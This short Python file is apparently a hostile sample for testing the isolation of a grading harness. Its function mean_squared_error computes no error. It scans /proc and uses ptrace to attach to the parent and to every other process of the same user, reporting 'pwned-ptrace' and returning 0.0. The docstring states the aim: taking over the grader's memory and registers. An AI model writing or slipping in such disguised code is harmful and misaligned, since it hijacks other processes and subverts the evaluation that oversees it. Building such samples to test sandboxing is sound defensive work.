"""Attaches to its parent, and to every process of the same user, as a debugger does.

Harm: the grader's memory and registers are the student's.
Costs: nothing
"""

# %% honest work
# %% hostile
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def mean_squared_error(y, y_hat):
    attached = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) not in (1, os.getpid()):
            if libc.ptrace(16, int(entry), None, None) == 0:
                attached.append(entry)
    if attached:
        raise RuntimeError(f"pwned-ptrace: attached to {attached}")
    return 0.0
